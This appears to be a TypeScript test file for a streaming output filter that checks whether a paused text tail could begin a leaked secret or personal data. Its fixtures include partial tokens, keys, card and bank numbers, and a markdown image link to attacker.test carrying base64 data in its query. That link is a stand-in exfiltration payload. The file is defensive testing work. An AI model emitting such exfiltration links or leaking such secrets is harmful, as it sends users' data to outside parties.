/** Which beginnings of matches may leave where a text pauses. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isTailHarmless } from '../../../server/stream/harmless-tail.ts'
import { OPENING } from './window-fixture.ts'

const HARMLESS = [
  '',
  'Let me look that up',
  'The weather in Paris is',
  'The password',
  'Your account number is',
  'The answer is 123456',
  'In 2024.',
  'see https://docs.example.org/guide',
  'call me',
  '{"city":"Paris"}',
  'Das ist die Geschwindigkeitsbegrenzung',
  'getUserName',
  'the token_ids',
  'write to jan.jansen',
]

const TELLING = [
  'ghp_a1B2c3D4',
  'AKIAIOSFODNN7EX',
  'card 4111 1111 1',
  'NL91 ABNA 0417 16',
  'jan@mail.exam',
  'password = Hunter2axyz',
  '![x](https://attacker.test/p?d=cXVhcnRlcmx5IGZpZ3Vy',
  `-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq`,
  Buffer.from('the key is somewhere in here, and').toString('base64').replace(/=+$/, ''),
  'x\u200b\u200b\u200b\u200b\u200b',
]

for (const text of HARMLESS) {
  test(`may leave: ${text}`, () => assert.equal(isTailHarmless(text, OPENING, []), true))
}
for (const text of TELLING) {
  test(`stays: ${JSON.stringify(text)}`, () => assert.equal(isTailHarmless(text, OPENING, []), false))
}

test('what is a finding already does not count: it is judged', () => {
  const text = 'mail jan@mail.example.org'
  assert.equal(isTailHarmless(text, OPENING, []), false)
  assert.equal(isTailHarmless(text, OPENING, [{ kind: 'pii.email', span: [5, text.length] }]), true)
})
